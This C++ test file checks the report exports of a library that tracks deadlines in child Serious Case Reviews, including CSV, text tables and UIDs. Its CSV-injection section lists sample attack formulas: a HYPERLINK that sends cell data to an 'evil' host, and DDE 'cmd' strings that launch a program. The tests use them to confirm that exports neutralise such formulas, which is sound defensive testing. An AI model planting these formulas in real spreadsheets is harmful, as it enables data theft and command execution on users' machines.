// The report layer (scr/report.hpp) on Solihull reviews built in memory and
// in an in-memory store: timetable entries (one per milestone row and per
// obligation occurrence, stable and unique uids, statuses, days late, order),
// the RFC 4180 CSV and the aligned text tables, the JSON documents, the
// iCalendar export (CRLF, 75-octet folding that never splits a UTF-8
// sequence, text escaping, one VEVENT per dated entry), the self-contained
// HTML page, the format names, the monthly progress report, and the due-item
// and compliance lists. Every date expected here is worked out by hand from
// the Solihull guidance (001:line) that the pack cites.

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include <algorithm>
#include <cstddef>
#include <map>
#include <set>
#include <string>
#include <string_view>
#include <tuple>
#include <vector>

#include "backend_support.hpp"
#include "review_support.hpp"
#include "scr/report.hpp"
#include "scr/store.hpp"

namespace {

using json = nlohmann::json;

const scr::actor chair = as("lscb_chair", "A. Patel", "Solihull LSCB");
const scr::actor admin = as("administrator", "R. Jones", "Solihull LSCB");
const scr::actor manager = as("business_manager", "L. Green", "Solihull LSCB");
const scr::actor nominated = as("nominated_panel_member", "K. Brown", "Solihull LSCB");
const scr::actor lscb = as("lscb", "Solihull LSCB meeting", "Solihull LSCB");

// ---- reviews --------------------------------------------------------------------

// Referral received on Monday 15 January 2024 at 09:00; the incident was on
// the Saturday night before.
scr::review opened(const std::string& reference = "Child Q") {
  return scr::review::open(pack("solihull-2011-scr"), ew(), reference, london(2024, 1, 15, 9), chair,
                           {{"incident_at", utc(2024, 1, 13, 22)}, {"referring_agency", std::string("Police")}});
}

// As review_solihull_test's decided(): letters, replies, the panel, and the
// Chair's decision to hold a review on 1 February 2024 (9 events).
scr::review decided(const std::string& reference = "Child Q") {
  auto r = opened(reference);
  r.record("agency_letter_sent", london(2024, 1, 16, 11), chair, {{"agency", std::string("Police")}});
  r.record("agency_letter_sent", london(2024, 1, 16, 11), chair, {{"agency", std::string("Health")}});
  r.discharge("incident_notice", london(2024, 1, 17), admin, "Emailed Ofsted and the DfE");
  r.record("involvement_confirmed", london(2024, 1, 18), manager, {{"records_secured", true}}, "Police");
  r.record("panel_convened", london(2024, 1, 19), chair);
  r.record("nil_return_received", london(2024, 1, 22), manager, {}, "Health");
  r.record("panel_recommended", london(2024, 1, 29), chair, {{"recommendation", std::string("scr")}});
  r.record("decision_made", london(2024, 2, 1), chair,
           {{"outcome", std::string("scr")}, {"reasons", std::string("The criteria in Working Together 8.9 are met")}});
  return r;
}

// The LSCB agrees on 20 March 2024 to extend the six months (001:216, 001:393)
// to 1 October 2024 (10 events).
scr::review extended(const std::string& reference = "Child Q") {
  auto r = decided(reference);
  r.extend("completion", ymd(2024, 10, 1), "Criminal trial listed for July", london(2024, 3, 20), lscb);
  return r;
}

// The Chair decides on 29 February 2024 not to hold a review: the review
// closes (001:801) and the review-only milestones are waived.
scr::review not_held(const std::string& reference = "Child C") {
  auto r = opened(reference);
  r.record("panel_convened", london(2024, 1, 19), chair);
  r.record("panel_recommended", london(2024, 1, 29), chair, {{"recommendation", std::string("no_review")}});
  r.record("decision_made", london(2024, 2, 29, 16), chair,
           {{"outcome", std::string("no_review")}, {"reasons", std::string("criteria not met")}});
  return r;
}

// ---- helpers --------------------------------------------------------------------

const scr::timetable_entry& entry_of(const std::vector<scr::timetable_entry>& entries, std::string_view kind,
                                     std::string_view id, std::string_view agency = {}, int occurrence = 1) {
  for (const auto& e : entries) {
    if (e.kind == kind && e.id == id && e.agency == agency && e.occurrence == occurrence) return e;
  }
  static const scr::timetable_entry none;
  std::string ids;
  for (const auto& e : entries) ids += " " + e.kind + ":" + e.id + (e.agency.empty() ? "" : "@" + e.agency);
  ADD_FAILURE() << "no " << kind << " entry " << id << " " << agency << " #" << occurrence << "; entries:" << ids;
  return none;
}

std::size_t count_of(std::string_view text, std::string_view what) {
  std::size_t n = 0;
  for (auto at = text.find(what); at != std::string_view::npos; at = text.find(what, at + what.size())) ++n;
  return n;
}

std::vector<std::string> split(std::string_view text, std::string_view sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  for (auto at = text.find(sep); at != std::string_view::npos; at = text.find(sep, start)) {
    out.emplace_back(text.substr(start, at - start));
    start = at + sep.size();
  }
  out.emplace_back(text.substr(start));
  return out;
}

bool continuation(char c) { return (static_cast<unsigned char>(c) & 0xC0) == 0x80; }

std::size_t code_points(std::string_view s) {
  return static_cast<std::size_t>(std::count_if(s.begin(), s.end(), [](char c) { return !continuation(c); }));
}

// True if the bytes are whole UTF-8 sequences (none cut at either end).
bool whole_utf8(std::string_view s) {
  std::size_t i = 0;
  while (i < s.size()) {
    const auto lead = static_cast<unsigned char>(s[i]);
    std::size_t n = 0;
    if (lead < 0x80) n = 1;
    else if ((lead & 0xE0) == 0xC0) n = 2;
    else if ((lead & 0xF0) == 0xE0) n = 3;
    else if ((lead & 0xF8) == 0xF0) n = 4;
    else return false;
    if (i + n > s.size()) return false;
    for (std::size_t k = 1; k < n; ++k) {
      if (!continuation(s[i + k])) return false;
    }
    i += n;
  }
  return true;
}

// A strict RFC 4180 reader: every record ends with CRLF; a quoted field may
// hold commas, CR, LF and doubled quotes; an unquoted one holds none of
// those. The first violation fails the test.
std::vector<std::vector<std::string>> parse_csv(std::string_view text) {
  std::vector<std::vector<std::string>> records;
  std::vector<std::string> record;
  std::size_t i = 0;
  while (i < text.size()) {
    std::string field;
    if (text[i] == '"') {
      ++i;
      for (;;) {
        if (i >= text.size()) {
          ADD_FAILURE() << "unterminated quoted field";
          return records;
        }
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            field += '"';
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.size() && text[i] != ',' && text[i] != '\r') {
        if (text[i] == '"' || text[i] == '\n') {
          ADD_FAILURE() << "a quote or a bare LF in an unquoted field at byte " << i;
          return records;
        }
        field += text[i++];
      }
    }
    record.push_back(std::move(field));
    if (i < text.size() && text[i] == ',') {
      ++i;
      if (i == text.size()) ADD_FAILURE() << "the text ends after a comma";
      continue;
    }
    if (text.compare(i, 2, "\r\n") == 0) {
      i += 2;
      records.push_back(std::move(record));
      record.clear();
      continue;
    }
    ADD_FAILURE() << "expected a comma or CRLF at byte " << i;
    return records;
  }
  if (!record.empty()) ADD_FAILURE() << "the last record is not ended by CRLF";
  return records;
}

// iCalendar unfolding (RFC 5545 3.1): a CRLF followed by a space goes.
std::string unfold(std::string_view ics) {
  std::string out(ics);
  for (auto at = out.find("\r\n "); at != std::string::npos; at = out.find("\r\n ", at)) out.erase(at, 3);
  return out;
}

// The VEVENT blocks of an iCalendar text, unfolded, each as its lines.
std::vector<std::vector<std::string>> vevents(std::string_view ics) {
  std::vector<std::vector<std::string>> out;
  bool in = false;
  for (const auto& line : split(unfold(ics), "\r\n")) {
    if (line == "BEGIN:VEVENT") {
      in = true;
      out.emplace_back();
    }
    if (in) out.back().push_back(line);
    if (line == "END:VEVENT") in = false;
  }
  return out;
}

// The value of a property in a VEVENT ("" when absent).
std::string property(const std::vector<std::string>& event, std::string_view name) {
  for (const auto& line : event) {
    if (line.size() > name.size() && line.compare(0, name.size(), name) == 0 &&
        (line[name.size()] == ':' || line[name.size()] == ';')) {
      return line.substr(name.size() + 1);
    }
  }
  return {};
}

// The VEVENT whose UID is the entry's.
std::vector<std::string> event_for(const std::vector<std::vector<std::string>>& events,
                                   const scr::timetable_entry& e) {
  for (const auto& ev : events) {
    if (property(ev, "UID") == e.uid) return ev;
  }
  ADD_FAILURE() << "no VEVENT with UID " << e.uid << " (" << e.id << ")";
  return {};
}

// ---- timetable_entries ------------------------------------------------------------

TEST(report_entries, one_milestone_entry_per_timetable_row_then_one_per_obligation_occurrence) {
  const auto r = extended();
  const auto as_of = ymd(2024, 3, 31);
  const auto entries = scr::timetable_entries(r, as_of);
  const auto rows = r.timetable(as_of);
  const auto obligations = r.obligations(as_of);
  // The pack's 14 review milestones and the reply of each of the two agencies
  // written to (Police and Health, 001:857-859).
  ASSERT_EQ(rows.size(), 16u);
  // chair_letter_to_agencies, incident_notice, decision_notice, two monthly
  // updates (1 March and 1 April, 001:340) and the two extension notices.
  ASSERT_EQ(obligations.size(), 7u);
  ASSERT_EQ(entries.size(), rows.size() + obligations.size());
  for (std::size_t i = 0; i < rows.size(); ++i) {
    EXPECT_EQ(entries[i].kind, "milestone") << i;
    EXPECT_EQ(entries[i].id, rows[i].id()) << i;
    EXPECT_EQ(entries[i].agency, rows[i].agency) << i;
    EXPECT_EQ(entries[i].occurrence, 1) << i;
    EXPECT_EQ(entries[i].due, rows[i].due) << entries[i].id;
  }
  // The review's milestones come before the agencies'.
  EXPECT_EQ(entries[13].id, "completion");
  EXPECT_EQ(entries[14].agency, "Police");
  EXPECT_EQ(entries[15].agency, "Health");
  // Every obligation occurrence exactly once.
  std::multiset<std::tuple<std::string, std::string, int>> expected, got;
  for (const auto& o : obligations) expected.emplace(o.id(), o.agency, o.occurrence);
  for (std::size_t i = rows.size(); i < entries.size(); ++i) {
    EXPECT_EQ(entries[i].kind, "obligation") << i;
    got.emplace(entries[i].id, entries[i].agency, entries[i].occurrence);
  }
  EXPECT_EQ(got, expected);
  EXPECT_EQ(entry_of(entries, "obligation", "monthly_progress_update", "", 1).due, ymd(2024, 3, 1));
  EXPECT_EQ(entry_of(entries, "obligation", "monthly_progress_update", "", 2).due, ymd(2024, 4, 1));
}

TEST(report_entries, fields_statuses_and_days_late) {
  const auto entries = scr::timetable_entries(extended(), ymd(2024, 3, 31));
  // 001:851: the decision within one month of the request of 15 January; met on 1 February.
  const auto& decision = entry_of(entries, "milestone", "decision");
  EXPECT_EQ(decision.status, "met");
  EXPECT_EQ(decision.due, ymd(2024, 2, 15));
  EXPECT_EQ(decision.completed_at, london(2024, 2, 1));
  EXPECT_TRUE(decision.statutory);
  EXPECT_EQ(decision.rule, "1 month after referral_received");
  EXPECT_EQ(decision.cite, (std::vector<std::string>{"001:851", "001:392"}));
  EXPECT_EQ(decision.title, "Decision whether to hold a Serious Case Review (Working Together 8.22)");
  EXPECT_EQ(decision.owner, "lscb_chair");
  // 001:216: six months from 1 February is 1 August, extended to 1 October.
  const auto& completion = entry_of(entries, "milestone", "completion");
  EXPECT_EQ(completion.status, "extended");
  EXPECT_EQ(completion.due, ymd(2024, 10, 1));
  EXPECT_EQ(completion.original_due, ymd(2024, 8, 1));
  EXPECT_EQ(completion.extended_to, ymd(2024, 10, 1));
  EXPECT_EQ(completion.anchor_date, ymd(2024, 2, 1));
  EXPECT_EQ(completion.days_late, 0);
  // 001:735: 72 hours after the incident (13 January 22:00 UTC); met by the referral.
  const auto& form = entry_of(entries, "milestone", "referral_form");
  EXPECT_EQ(form.status, "met");
  EXPECT_EQ(form.due_at, utc(2024, 1, 16, 22));
  // 001:186-191: appointments in weeks 2-3 (5 February), not made: 55 days late on 31 March.
  const auto& appointments = entry_of(entries, "milestone", "appointments");
  EXPECT_EQ(appointments.status, "overdue");
  EXPECT_EQ(appointments.due, ymd(2024, 2, 5));
  EXPECT_EQ(appointments.days_late, 24 + 31);
  // 001:857-859: 3 working days from the letters of 16 January is 19 January;
  // Health's NIL return came on 22 January.
  const auto& health = entry_of(entries, "milestone", "reply", "Health");
  EXPECT_EQ(health.status, "met late");
  EXPECT_EQ(health.days_late, 3);
  EXPECT_EQ(entry_of(entries, "milestone", "reply", "Police").status, "met");
  // 001:209-212: the panel stage is projected from the briefing not yet held.
  const auto& panel = entry_of(entries, "milestone", "panel_stage");
  EXPECT_EQ(panel.status, "pending");
  EXPECT_TRUE(panel.projected);
  EXPECT_EQ(entry_of(entries, "milestone", "reconsideration").status, "waived");
  EXPECT_EQ(entry_of(entries, "milestone", "presentation_meeting").due, std::nullopt);
  // Obligations.
  const auto& letter = entry_of(entries, "obligation", "chair_letter_to_agencies");
  EXPECT_EQ(letter.status, "discharged");
  EXPECT_EQ(letter.due, ymd(2024, 1, 16));  // 001:348: 1 working day after Monday 15 January
  EXPECT_EQ(letter.completed_at, london(2024, 1, 16, 11));
  EXPECT_EQ(letter.anchor_date, ymd(2024, 1, 15));
  EXPECT_EQ(letter.days_late, 0);
  const auto& notice = entry_of(entries, "obligation", "decision_notice");
  EXPECT_EQ(notice.status, "overdue");
  EXPECT_EQ(notice.days_late, 55);  // due 5 February (001:189)
  const auto& monthly = entry_of(entries, "obligation", "monthly_progress_update");
  EXPECT_EQ(monthly.status, "overdue");
  EXPECT_EQ(monthly.days_late, 30);  // due 1 March
  EXPECT_EQ(monthly.rule, "1 month after decision_made, then every 1 month until scr_submitted");
  EXPECT_EQ(entry_of(entries, "obligation", "monthly_progress_update", "", 2).status, "pending");
  const auto& ofsted = entry_of(entries, "obligation", "extension_notice_ofsted");
  EXPECT_EQ(ofsted.status, "open");
  EXPECT_EQ(ofsted.due, std::nullopt);
  EXPECT_EQ(ofsted.rule, "on an extension of completion");
  EXPECT_EQ(ofsted.anchor_date, ymd(2024, 3, 20));

  // A late discharge: decision_notice on 2 April, 57 days after 5 February.
  auto r = extended();
  r.discharge("decision_notice", london(2024, 4, 2), nominated);
  const auto late = entry_of(scr::timetable_entries(r, ymd(2024, 4, 30)), "obligation", "decision_notice");
  EXPECT_EQ(late.status, "discharged late");
  EXPECT_EQ(late.days_late, 29 + 28);
}

TEST(report_entries, the_undecided_decision_is_due_soon_then_one_day_late) {
  const auto r = opened();
  // 001:851: one month from 15 January is 15 February; warned 5 working days before (8 February).
  const auto status_on = [&](scr::date d) { return entry_of(scr::timetable_entries(r, d), "milestone", "decision"); };
  EXPECT_EQ(status_on(ymd(2024, 2, 7)).status, "pending");
  EXPECT_EQ(status_on(ymd(2024, 2, 8)).status, "due soon");
  EXPECT_EQ(status_on(ymd(2024, 2, 15)).days_late, 0);
  const auto late = status_on(ymd(2024, 2, 16));
  EXPECT_EQ(late.due, ymd(2024, 2, 15));
  EXPECT_EQ(late.status, "overdue");
  EXPECT_EQ(late.days_late, 1);
  EXPECT_EQ(status_on(ymd(2024, 2, 17)).days_late, 2);
}

TEST(report_entries, uids_are_unique_and_stable) {
  auto r = extended();
  const auto a = scr::timetable_entries(r, ymd(2024, 3, 31));
  const auto b = scr::timetable_entries(r, ymd(2024, 3, 31));
  ASSERT_EQ(a.size(), b.size());
  std::set<std::string> uids;
  std::map<std::tuple<std::string, std::string, std::string, int>, std::string> by_key;
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].uid, b[i].uid) << a[i].id;
    // 32 hex digits and the domain.
    ASSERT_EQ(a[i].uid.size(), 32u + 7u) << a[i].uid;
    EXPECT_EQ(a[i].uid.substr(32), "@libscr");
    EXPECT_EQ(a[i].uid.find_first_not_of("0123456789abcdef"), 32u) << a[i].uid;
    uids.insert(a[i].uid);
    by_key[{a[i].kind, a[i].id, a[i].agency, a[i].occurrence}] = a[i].uid;
  }
  EXPECT_EQ(uids.size(), a.size()) << "uids are not unique";
  // The same from one version of libscr to the next (a calendar that
  // imported an export matches entries by UID): the first 32 hex digits of
  // the SHA-256 of procedure, reference, kind, id, agency and occurrence
  // joined by U+001F, worked out outside libscr with Python's hashlib:
  //   hashlib.sha256(b"solihull-2011-scr\x1fChild Q\x1fmilestone\x1freferral_form\x1f\x1f1").hexdigest()[:32]
  EXPECT_EQ((by_key[{"milestone", "referral_form", "", 1}]), "3cff792f08fe55b6fbb668964dfee024@libscr");
  // A later event, and a later date, leave every entry's uid as it was.
  r.discharge("decision_notice", london(2024, 4, 2), nominated);
  r.discharge("monthly_progress_update", london(2024, 4, 3), nominated);
  std::size_t common = 0;
  for (const auto& e : scr::timetable_entries(r, ymd(2024, 5, 15))) {
    const auto it = by_key.find({e.kind, e.id, e.agency, e.occurrence});
    if (it == by_key.end()) continue;
    ++common;
    EXPECT_EQ(e.uid, it->second) << e.kind << " " << e.id << " " << e.agency << " #" << e.occurrence;
  }
  EXPECT_EQ(common, a.size());
  // The same milestone of another review has another uid.
  const auto other = scr::timetable_entries(extended("Child R"), ymd(2024, 3, 31));
  EXPECT_NE(entry_of(other, "milestone", "decision").uid, entry_of(a, "milestone", "decision").uid);
}

TEST(report_entries, obligations_are_sorted_by_due_date_with_undated_ones_last) {
  const auto entries = scr::timetable_entries(extended(), ymd(2024, 3, 31));
  std::vector<const scr::timetable_entry*> obligations;
  for (const auto& e : entries) {
    if (e.kind == "obligation") obligations.push_back(&e);
  }
  ASSERT_EQ(obligations.size(), 7u);
  bool undated = false;
  for (std::size_t i = 0; i < obligations.size(); ++i) {
    if (!obligations[i]->due) {
      undated = true;
      continue;
    }
    EXPECT_FALSE(undated) << obligations[i]->id << " has a date but comes after an undated obligation";
    if (i > 0 && obligations[i - 1]->due) {
      EXPECT_LE(*obligations[i - 1]->due, *obligations[i]->due);
    }
  }
  EXPECT_EQ(obligations[0]->id, "chair_letter_to_agencies");  // 16 January
  EXPECT_EQ(obligations[1]->id, "incident_notice");           // 22 January (week 1, 001:181)
  EXPECT_EQ(obligations[2]->id, "decision_notice");           // 5 February
  EXPECT_EQ(obligations[3]->occurrence, 1);                   // 1 March
  EXPECT_EQ(obligations[4]->occurrence, 2);                   // 1 April
  EXPECT_EQ(obligations[5]->due, std::nullopt);
  EXPECT_EQ(obligations[6]->due, std::nullopt);
}

// report.hpp: days_late is "past due (as of the date while open)"; a waived
// entry is not open, so it is never late. A review stood down on 10 April
// 2024 (001:173) waives the review-only milestones and the remaining monthly
// updates, several of whose dates had passed.
TEST(report_entries, a_waived_entry_is_not_late) {
  auto r = decided();
  r.record("scr_status_revised", london(2024, 4, 10), chair, {{"reasons", std::string("IMRs instead")}});
  const auto entries = scr::timetable_entries(r, ymd(2024, 5, 31));
  const auto& appointments = entry_of(entries, "milestone", "appointments");
  EXPECT_EQ(appointments.status, "waived");
  EXPECT_EQ(appointments.due, ymd(2024, 2, 5));
  EXPECT_EQ(appointments.days_late, 0) << "a waived milestone is reported as late";
  const auto& monthly = entry_of(entries, "obligation", "monthly_progress_update");
  EXPECT_EQ(monthly.status, "waived");
  EXPECT_EQ(monthly.due, ymd(2024, 3, 1));
  EXPECT_EQ(monthly.days_late, 0) << "a waived obligation is reported as late";
}

// ---- CSV --------------------------------------------------------------------------

TEST(report_csv, csv_table_quotes_as_rfc_4180_and_ends_every_record_with_crlf) {
  EXPECT_EQ(scr::csv_table({}), "");
  EXPECT_EQ(scr::csv_table({{"a", "b"}, {"c", "d"}}), "a,b\r\nc,d\r\n");
  EXPECT_EQ(scr::csv_table({{"with,comma", "say \"hi\"", "two\nlines", "cr\rhere", "crlf\r\nhere"}}),
            "\"with,comma\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\",\"crlf\r\nhere\"\r\n");
  EXPECT_EQ(scr::csv_table({{"", "x", ""}, {""}}), ",x,\r\n\r\n");
  // Spaces, semicolons and non-ASCII text need no quotes.
  EXPECT_EQ(scr::csv_table({{" Zoë; Children’s "}}), " Zoë; Children’s \r\n");
  // What is written reads back the same.
  const std::vector<std::vector<std::string>> rows{{"a,b", "\"", "", "x\r\ny"}, {"Zoë", "", "\"\"", ","}};
  EXPECT_EQ(parse_csv(scr::csv_table(rows)), rows);
}

TEST(report_csv, timetable_csv_has_a_header_and_the_same_number_of_fields_in_every_record) {
  const auto r = extended();
  const auto as_of = ymd(2024, 3, 31);
  const auto records = parse_csv(scr::timetable_csv(r, as_of));
  const std::vector<std::string> header{"reference", "kind",         "item",        "agency",      "occurrence",
                                        "title",     "owner",        "status",      "due",         "due_at",
                                        "original_due", "extended_to", "anchor_date", "completed_at", "days_late",
                                        "statutory", "projected",    "provisional", "scheduled",   "breach",
                                        "rule",      "confidence",   "cite",        "uid"};
  ASSERT_FALSE(records.empty());
  EXPECT_EQ(records[0], header);
  const auto entries = scr::timetable_entries(r, as_of);
  ASSERT_EQ(records.size(), entries.size() + 1);
  for (std::size_t i = 1; i < records.size(); ++i) {
    ASSERT_EQ(records[i].size(), header.size()) << "record " << i;
    EXPECT_EQ(records[i][0], "Child Q");
    EXPECT_EQ(records[i][2], entries[i - 1].id);
    EXPECT_EQ(records[i][23], entries[i - 1].uid);
  }
  // The completion: its title holds commas, so it is quoted and reads back whole.
  const auto it = std::find_if(records.begin(), records.end(), [](const auto& rec) { return rec[2] == "completion"; });
  ASSERT_NE(it, records.end());
  const auto& c = *it;
  EXPECT_EQ(c[5], "Serious Case Review completed and submitted to Ofsted, the SHA and the DfE");
  EXPECT_EQ(c[7], "extended");
  EXPECT_EQ(c[8], "2024-10-01");
  EXPECT_EQ(c[9], "");  // no time
  EXPECT_EQ(c[10], "2024-08-01");
  EXPECT_EQ(c[11], "2024-10-01");
  EXPECT_EQ(c[12], "2024-02-01");
  EXPECT_EQ(c[13], "");
  EXPECT_EQ(c[14], "0");
  EXPECT_EQ(c[15], "true");
  EXPECT_EQ(c[16], "false");
  EXPECT_EQ(c[20], "6 months after latest decision_made");
  EXPECT_EQ(c[21], "");  // the pack does not say how firm its sources are
  EXPECT_EQ(c[22], "001:216 001:221 001:393 001:394");

  // A reference with a comma and quotes is quoted in every record (a
  // reference is one line: line breaks in cells are tested with csv_table).
  const std::string awkward = "Child \"Q\", Solihull";
  const auto rows = parse_csv(scr::timetable_csv(decided(awkward), as_of));
  ASSERT_GT(rows.size(), 1u);
  for (std::size_t i = 1; i < rows.size(); ++i) {
    ASSERT_EQ(rows[i].size(), header.size()) << "record " << i;
    EXPECT_EQ(rows[i][0], awkward);
  }
}

// ---- CSV: safe to open in a spreadsheet (OWASP, CSV injection) --------------------

// Every prefix a spreadsheet reads as the start of a formula, and an attack
// that begins with it.
const std::vector<std::string> formulas{
    "=HYPERLINK(\"http://evil/?x=\"&A2,\"Click\")",  // =
    "+1+cmd|' /C calc'!A0",                          // +
    "-2+3+cmd|' /C calc'!A0",                        // -
    "@SUM(1+1)*cmd|' /C calc'!A0",                   // @
    "\t=1+1",                                        // TAB
    "\r\n=1+1",                                      // CR
};

TEST(report_csv, formula_triggers_are_the_six_owasp_prefixes) {
  for (const auto& f : formulas) {
    EXPECT_TRUE(scr::csv_formula_trigger(f)) << f;
    EXPECT_EQ(scr::csv_neutralised(f), "'" + f);
  }
  for (const std::string plain : {"", "Child Q", "'=1", " =1", "1-2", "2024-01-16", "Zoë", "\n=1", "x=1"}) {
    EXPECT_FALSE(scr::csv_formula_trigger(plain)) << plain;
    EXPECT_EQ(scr::csv_neutralised(plain), plain);
  }
}

TEST(report_csv, csv_table_neutralises_each_prefix_then_quotes_as_rfc_4180) {
  // One cell per prefix: after the ', then quoted when it holds a comma, a
  // quote or a line break.
  EXPECT_EQ(scr::csv_table({{"=1+1", "+1", "-1", "@A1", "\tx", "\rx"}}), "'=1+1,'+1,'-1,'@A1,'\tx,\"'\rx\"\r\n");
  EXPECT_EQ(scr::csv_table({{formulas[0]}}), "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A2,\"\"Click\"\")\"\r\n");
  EXPECT_EQ(scr::csv_table({{"=a,b"}}), "\"'=a,b\"\r\n");
  // Everything else as before.
  EXPECT_EQ(scr::csv_table({{"Child Q", "1-2", "'quoted", ""}}), "Child Q,1-2,'quoted,\r\n");
  // Each reads back as the ' and the text.
  const std::vector<std::vector<std::string>> rows{formulas};
  const auto back = parse_csv(scr::csv_table(rows));
  ASSERT_EQ(back.size(), 1u);
  ASSERT_EQ(back[0].size(), formulas.size());
  for (std::size_t i = 0; i < formulas.size(); ++i) EXPECT_EQ(back[0][i], "'" + formulas[i]);
  // raw: every cell as it is.
  EXPECT_EQ(parse_csv(scr::csv_table(rows, {.raw = true})), rows);
  EXPECT_EQ(scr::csv_table({{"=1+1", "-1"}}, {.raw = true}), "=1+1,-1\r\n");
}

TEST(report_csv, excel_puts_a_utf8_byte_order_mark_first) {
  const std::string bom = "\xEF\xBB\xBF";
  const std::vector<std::vector<std::string>> rows{{"reference"}, {"Zoë Ünïcødé"}};
  const std::string plain = scr::csv_table(rows);
  EXPECT_EQ(plain.rfind(bom, 0), std::string::npos);
  EXPECT_EQ(scr::csv_table(rows, {.excel = true}), bom + plain);
  EXPECT_EQ(scr::csv_table({{"=1"}}, {.raw = true, .excel = true}), bom + "=1\r\n");
  EXPECT_EQ(scr::csv_table({}, {.excel = true}), bom);
  // Only once, at the very start, in every CSV export.
  const auto r = extended();
  const std::string timetable = scr::timetable_csv(r, ymd(2024, 3, 31), {.excel = true});
  EXPECT_EQ(timetable, bom + scr::timetable_csv(r, ymd(2024, 3, 31)));
  EXPECT_EQ(timetable.find(bom, 1), std::string::npos);
  EXPECT_EQ(scr::due_items_csv_with({}, {.excel = true}), bom + scr::due_items_csv({}));
  EXPECT_EQ(scr::compliance_csv_with({}, {.excel = true}), bom + scr::compliance_csv({}));
}

TEST(report_csv, timetable_csv_neutralises_a_reference_in_every_record_unless_raw) {
  const auto as_of = ymd(2024, 3, 31);
  for (const auto& reference : formulas) {
    // A reference is one line of visible text: the prefixes it can start with.
    if (reference[0] == '\t' || reference[0] == '\r') continue;
    const auto r = decided(reference);
    const auto safe = parse_csv(scr::timetable_csv(r, as_of));
    const auto raw = parse_csv(scr::timetable_csv(r, as_of, {.raw = true}));
    ASSERT_GT(safe.size(), 1u);
    ASSERT_EQ(safe.size(), raw.size());
    EXPECT_EQ(safe[0], raw[0]);  // the header
    for (std::size_t i = 1; i < safe.size(); ++i) {
      ASSERT_EQ(safe[i].size(), 24u);
      EXPECT_EQ(safe[i][0], "'" + reference) << "record " << i;
      EXPECT_EQ(raw[i][0], reference) << "record " << i;
      // Nothing else changes: the library's own columns, and text that
      // starts with no trigger.
      for (std::size_t c = 1; c < safe[i].size(); ++c) EXPECT_EQ(safe[i][c], raw[i][c]) << "record " << i;
    }
    EXPECT_EQ(scr::export_timetable(r, as_of, scr::export_format::csv), scr::timetable_csv(r, as_of));
  }
}

TEST(report_csv, lists_neutralise_text_cells_and_write_their_own_numbers_as_they_are) {
  // Every text column of a due item starts with a trigger; the library's own
  // columns (kind, occurrence, due, days_late) are never prefixed.
  for (const auto& f : formulas) {
    const scr::due_item item{f, "milestone", f, f, f, f, 2, ymd(2024, 2, 1), 3};
    const auto safe = parse_csv(scr::due_items_csv({item}));
    ASSERT_EQ(safe.size(), 2u);
    EXPECT_EQ(safe[1], (std::vector<std::string>{"'" + f, "milestone", "'" + f, "'" + f, "2", "'" + f, "'" + f,
                                                 "overdue", "2024-02-01", "3"}));
    EXPECT_EQ(scr::due_items_csv({item}), scr::due_items_csv_with({item}, {}));
    const auto raw = parse_csv(scr::due_items_csv_with({item}, {.raw = true}));
    ASSERT_EQ(raw.size(), 2u);
    EXPECT_EQ(raw[1], (std::vector<std::string>{f, "milestone", f, f, "2", f, f, "overdue", "2024-02-01", "3"}));
  }
  // A negative number the library writes stays a number; the same text in a
  // reference is neutralised.
  scr::headline_compliance h;
  h.reference = "-14";
  h.headline = "@decision";
  h.milestone = "+decision_made";
  h.due = ymd(2024, 2, 15);
  h.completed_on = ymd(2024, 2, 1);
  h.on_time = true;
  h.days_late = -14;
  const auto rows = parse_csv(scr::compliance_csv({h}));
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[1], (std::vector<std::string>{"'-14", "'@decision", "'+decision_made", "2024-02-15", "", "2024-02-01",
                                               "true", "false", "false", "-14"}));
  const auto raw = parse_csv(scr::compliance_csv_with({h}, {.raw = true}));
  ASSERT_EQ(raw.size(), 2u);
  EXPECT_EQ(raw[1][0], "-14");
  EXPECT_EQ(raw[1][1], "@decision");
  EXPECT_EQ(raw[1][9], "-14");
}

// ---- aligned text -------------------------------------------------------------------

TEST(report_text, aligned_table_counts_code_points_trims_and_does_not_pad_the_last_column) {
  const std::string table = scr::aligned_table({{"NAME", "AGENCY", "NOTE"},
                                                {"Zoë", "Children’s", "x"},
                                                {"Al", "B", ""},
                                                {"Ünïcødé", "C", "last"}});
  // Widths 7 and 10 (code points), two spaces apart.
  EXPECT_EQ(table,
            "NAME     AGENCY      NOTE\n"
            "Zoë      Children’s  x\n"
            "Al       B\n"
            "Ünïcødé  C           last\n");
  // Every line's second and third columns start at the same character.
  for (const auto& line : split(table, "\n")) {
    if (line.empty()) continue;
    EXPECT_NE(line.back(), ' ') << "trailing space in: " << line;
    const auto second = line.find_first_not_of(' ', line.find(' '));
    EXPECT_EQ(code_points(std::string_view(line).substr(0, second)), 9u) << line;
  }
  // The last column is never padded, whatever its width.
  EXPECT_EQ(scr::aligned_table({{"a", "a long last cell"}, {"bb", "x"}}), "a   a long last cell\nbb  x\n");
  EXPECT_EQ(scr::aligned_table({}), "");
}

// A table aligned as the rules say, worked out plainly (one string a line):
// each column as wide as its widest cell in code points, colour sequences
// taking none, two spaces between, the last cell of a row not padded, and
// trailing spaces trimmed.
std::string plainly_aligned(const std::vector<std::vector<std::string>>& rows) {
  const auto width_of = [](const std::string& cell) {
    std::size_t n = 0;
    for (std::size_t i = 0; i < cell.size(); ++i) {
      if (cell[i] == '\x1b') {
        i = cell.find('m', i);
        if (i == std::string::npos) break;
        continue;
      }
      if ((static_cast<unsigned char>(cell[i]) & 0xC0) != 0x80) ++n;
    }
    return n;
  };
  std::vector<std::size_t> width;
  for (const auto& r : rows) {
    for (std::size_t i = 0; i < r.size(); ++i) {
      if (width.size() <= i) width.push_back(0);
      width[i] = std::max(width[i], width_of(r[i]));
    }
  }
  std::string out;
  for (const auto& r : rows) {
    std::string line;
    for (std::size_t i = 0; i < r.size(); ++i) {
      line += r[i];
      if (i + 1 < r.size()) line += std::string(width[i] - width_of(r[i]) + 2, ' ');
    }
    while (!line.empty() && line.back() == ' ') line.pop_back();
    out += line + "\n";
  }
  return out;
}

// A text_table made a cell at a time is the table the rules give (and
// aligned_table's), and written in pieces it is the same text cut at line
// ends: every piece whole lines, none much over the size asked for.
